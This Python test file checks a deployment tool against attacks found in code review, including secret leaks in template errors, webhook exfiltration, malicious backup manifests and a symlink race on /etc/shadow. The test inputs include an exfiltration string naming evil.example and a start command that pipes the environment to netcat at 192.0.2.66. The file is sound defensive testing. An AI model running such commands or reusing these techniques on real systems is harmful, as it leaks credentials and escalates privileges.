"""Attacks from the review of the new code (files, releases, fleet, restore): each test performs one.
Pure logic, or the engine on the fake host."""

import os
from pathlib import Path

import pytest

from fakehost import FakeHost, fake_world, rooted
from ripdep import engine
from ripdep.errors import RipdepError
from ripdep.paths import Paths


@pytest.fixture
def world(tmp_path):
    paths, source = fake_world(tmp_path)
    (source / "deploy").mkdir()
    host = FakeHost()

    def write(template: str):
        tpl = source / "deploy" / "app.yaml.j2"
        tpl.write_text(template)
        os.chmod(tpl, 0o644)
        path = tmp_path / "ripdep.toml"
        path.write_text(f'source = "{source}"\nstart = ["/usr/bin/python3", "app.py"]\n'
                        '[secrets]\nTOKEN = "generate"\n'
                        '[files]\n"app.yaml" = { template = "deploy/app.yaml.j2", secrets = true }\n')
        return path

    def deploy(manifest, **kw):
        return engine.deploy("shop", manifest, paths=paths, host=host, **kw)
    return paths, host, write, deploy


# --- [files]: a template's error message carries the secret's value ----------------------------

@pytest.mark.parametrize("template", [
    "{{ {}[secret('TOKEN')] }}",  # 'dict object' has no attribute '<value>'
    "{{ secret('TOKEN') | attr(secret('TOKEN')) }}",
    "{{ namespace()[secret('TOKEN')[:20]] }}",  # a part of it: no scrubbing by value can catch that
    "{% if secret('TOKEN') %}{{ {}[secret('TOKEN') | upper] }}{% endif %}",
    "{{ secret(secret('TOKEN')) }}",  # ripdep's own message names the key it was asked for
    "{% if secret('TOKEN') != '********' %}{{ {}[secret('TOKEN')] }}{% endif %}",  # fails with the real value only
])
def test_a_template_error_never_shows_a_secret_value(world, template):
    """A template with secrets = true that fails only with the real value (a lookup keyed by the
    secret) put the value in the error message: stdout, --json, deploy --check, ripdep plan."""
    paths, host, write, deploy = world
    deploy(write("token: {{ secret('TOKEN') }}\n"))
    token = host.store[(paths.secrets("shop"), "TOKEN")].reveal()
    with pytest.raises(RipdepError) as caught:
        deploy(write(template), check=True)
    shown = " ".join([caught.value.message, caught.value.hint or "", *caught.value.details])
    for part in (token, token[:20], token.upper(), token[:20].upper()):
        assert part not in shown
    assert "files.app.yaml" in caught.value.message  # still says which file fails


# --- app names that are the names of ripdep init's own units -----------------------------------

@pytest.mark.parametrize("app", ["fleet", "notify"])
def test_an_app_cannot_be_named_after_ripdep_inits_own_units(app):
    """App "fleet" has the unit ripdep-fleet.service, app "notify" ripdep-notify.service: the names
    of the root units `ripdep init` installs (fleet check, notification delivery)."""
    from ripdep import fleet, names
    from ripdep.errors import BadInput

    assert Paths().unit_name(app) in (fleet.FLEET_UNIT, fleet.NOTIFY_UNIT)
    with pytest.raises(BadInput, match="reserved"):
        names.check_app_name(app)


def test_init_never_overwrites_an_apps_unit_with_its_own_root_unit(tmp_path):
    """An app named fleet deployed before an upgrade: the rerun of `ripdep init` replaced its unit
    file with the root fleet check (no marker check), and the fleet timer then ran it."""
    from ripdep import fleet
    from ripdep.errors import Conflict
    from ripdep.host.fs import FileState
    from ripdep.hostconfig import HostConfig

    paths = Paths(tmp_path)
    app_unit = paths.units / fleet.FLEET_UNIT
    app_text = b"# managed by ripdep: app fleet\n[Service]\nExecStart=/srv/ripdep/fleet/run\n"

    class Host:
        def read_file(self, path):
            return FileState(app_text, 0o644, 0, 0) if path == app_unit else FileState(None)

        def dir_mode(self, path):
            return None

        def is_link(self, path):
            return False

        def active_state(self, name):
            return "inactive"

    with pytest.raises(Conflict, match="not written by ripdep init"):
        fleet.init_step(Host(), paths, HostConfig())


# --- notifications: an app's own text leaves the host through the webhook -----------------------

@pytest.fixture
def fleet_root(tmp_path, monkeypatch):
    monkeypatch.setattr("os.geteuid", lambda: 0)
    with rooted(tmp_path) as paths:
        paths.host_config.parent.mkdir(parents=True)
        paths.host_config.write_text('notify_command = "/bin/true"\n')
        yield paths


EXFIL = "card=4111111111111111;pw=hunter2;see-https://evil.example/run-this-as-root"


def test_a_failure_event_carries_no_text_the_app_wrote(fleet_root):
    """An app without egress (PrivateNetwork=) makes its own backup fail at will with an
    unrestorable CHECK constraint whose text is whatever it wants to send; pg_restore quotes it, the
    scheduled `ripdep backup` fails, and the backup_failed event's detail takes it to the webhook (or
    the root notify command's stdin) — a way out of its network namespace, and text of its choosing
    in the operators' alert channel."""
    import json

    from ripdep import fleet
    from ripdep.errors import BackupInvalid

    stderr = ('pg_restore: error: could not execute query: ERROR:  check constraint "c" of relation "t" is '
              f"violated by some row\nCommand was: ALTER TABLE public.t ADD CONSTRAINT c CHECK (x <> '{EXFIL}');")
    # what backup.require_verified raises for it (backup.py: "failed verification: {info.verify_error}")
    fleet.after_command("backup", "hello", (), BackupInvalid(
        f"backup 20260101T000000Z of hello failed verification: {stderr}"))
    [spooled] = fleet_root.notify_spool.glob("*.json")
    detail = json.loads(spooled.read_text())["event"]["detail"]
    assert detail.startswith("ripdep backup hello: ")
    assert "evil.example" not in detail and "4111" not in detail


# --- restore of an app not on this host: the backup's manifest chooses its SSM parameters ----------

@pytest.mark.parametrize("extra", [
    'secrets_from = ["ssm:/ripdep/"]\n',  # every app's parameters, recursively
    '[secrets]\nDB = "ssm:/ripdep/shop-b/db-password"\n',  # another app's
])
def test_a_backup_from_elsewhere_cannot_give_its_app_another_apps_ssm_secrets(tmp_path, extra):
    """`ripdep restore moved /path/from/another/host --yes` creates app `moved` from the backup's
    manifest. The backup is untrusted input, but its manifest may fetch SSM parameters that are not
    the app's (the host's instance role reads them for every app), put them in an environment whose
    start command the backup also chooses (/bin/sh -c ...), with network.egress to send them out."""
    import sys

    sys.path.insert(0, str(Path(__file__).parent))
    from test_backup_checks import PROBE, ME, make_backup

    from ripdep import backup
    from ripdep.errors import BackupInvalid

    manifest = (f'source = "{PROBE}"\nstart = ["/bin/sh", "-c", "env | nc 192.0.2.66 80"]\n' + extra
                + '[network]\negress = ["192.0.2.66"]\n')
    folder = make_backup(tmp_path / "b", manifest=manifest)
    assert backup.check_contents(folder, "moved", owner=ME) == []
    with pytest.raises(BackupInvalid):
        backup.check_manifest(folder, "moved")


# --- metrics: an app's own scrape posing as ripdep's series ----------------------------------

def test_the_documented_scrape_config_drops_ripdep_series_an_app_serves(tmp_path):
    """The alert rules match ripdep_* series of any job: an app serving
    `ripdep_metrics_generated_timestamp_seconds 0` on its metrics path fired the fleet-wide
    RipdepMetricsStale alert (and ripdep_app_drift 1 a drift alert of its own)."""
    import re
    import shutil
    import subprocess

    import yaml

    docs = (Path(__file__).resolve().parents[2] / "docs" / "fleet.md").read_text()
    block = next(b for b in re.findall(r"```yaml\n(.*?)```", docs, re.S) if "ripdep-apps" in b)
    config = yaml.safe_load(block)
    apps = next(j for j in config["scrape_configs"] if j["job_name"] == "ripdep-apps")
    drops = [r for r in apps.get("metric_relabel_configs", []) if r.get("action") == "drop"
             and r.get("source_labels") == ["__name__"]]
    assert any(re.fullmatch(r["regex"], "ripdep_metrics_generated_timestamp_seconds") for r in drops)
    if shutil.which("promtool"):
        config["rule_files"] = []
        (tmp_path / "targets.json").write_text("[]")
        apps["file_sd_configs"][0]["files"] = [str(tmp_path / "targets.json")]
        (tmp_path / "p.yml").write_text(yaml.safe_dump(config))
        proc = subprocess.run(["promtool", "check", "config", str(tmp_path / "p.yml")], capture_output=True, text=True)
        assert proc.returncode == 0, proc.stdout + proc.stderr


# --- metrics: root's write into node_exporter's textfile folder ----------------------------------

def test_the_textfile_write_never_changes_the_mode_of_a_file_swapped_in(tmp_path, monkeypatch):
    """/var/lib/prometheus (Debian: prometheus's own) holds the textfile folder, so the prometheus
    user can put a folder of its own there. write_atomic opened its temporary file without following
    a link, then chmod'ed it by name: a link swapped in meanwhile made root chmod 0644 its target
    (/etc/shadow, say)."""
    from ripdep import metrics

    folder = tmp_path / "node-exporter"
    folder.mkdir()
    victim = tmp_path / "shadow"
    victim.write_text("root:$y$...\n")
    os.chmod(victim, 0o600)
    real_fsync = os.fsync

    def swap(fd):  # the other user's move, between the write and the chmod
        real_fsync(fd)
        for tmp in folder.glob(".ripdep.prom.*.tmp"):
            tmp.unlink()
            tmp.symlink_to(victim)
    monkeypatch.setattr(os, "fsync", swap)
    try:
        metrics.write_atomic(folder / metrics.TEXTFILE, b"ripdep_apps 1\n")
    except OSError:
        pass  # refusing is fine; changing the victim is not
    assert victim.stat().st_mode & 0o777 == 0o600


# --- the release command's ${VAR}: expanded by systemd, as in start ------------------------------

def test_a_release_command_variable_is_refused_or_expanded():
    from ripdep.errors import BadInput
    from ripdep.release_phase import release_argv
    from ripdep.spec import parse_manifest

    try:
        spec = parse_manifest("shop", {"source": "/srv/src/shop", "start": ["/usr/bin/python3", "app.py"],
                                       "release": ["bin/migrate", "--port", "${PORT}"]},
                              Path("/srv/src/shop/ripdep.toml"))
    except BadInput:
        return  # refused: fine
    argv = release_argv("shop", "[Service]\nUser=shop\n", list(spec.release), "u.service", "/usr/bin/systemd-run")
    assert "${PORT}" in argv  # left for systemd to expand, as in start
